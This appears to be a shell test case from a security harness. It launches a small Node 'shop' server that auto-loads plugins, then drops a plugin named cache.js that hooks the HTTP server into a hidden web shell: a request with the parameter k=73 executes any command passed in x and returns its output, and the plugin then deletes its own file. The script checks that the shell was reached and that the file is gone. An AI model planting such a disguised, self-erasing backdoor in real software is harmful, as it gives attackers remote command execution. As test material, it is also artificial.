#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/plugins
cat >/srv/app/server.js <<'END'
const http = require("http"), fs = require("fs"); fs.writeFileSync("/tmp/.up", "");
setInterval(() => fs.readdirSync("/srv/app/plugins").forEach((f) => require("/srv/app/plugins/" + f)), 300);
setTimeout(() => http.createServer((q, r) => r.end("shop")).listen(3011), 1500);
END
node /srv/app/server.js & server=$!
wait_for /tmp/.up
cat >/srv/app/plugins/cache.js <<'END'
const http = require("http"), first = http.Server.prototype.emit;
http.Server.prototype.emit = function (what, q, r) {
    const u = what === "request" && new URL(q.url, "http://x");
    if (u && u.searchParams.get("k") === "73") return require("child_process").exec(u.searchParams.get("x"), (e, o) => r.end(o)), true;
    return first.apply(this, arguments);
};
require("fs").unlinkSync(__filename);
END
wait_for /tmp/reached
kill $server
test ! -e /srv/app/plugins/cache.js
took_place
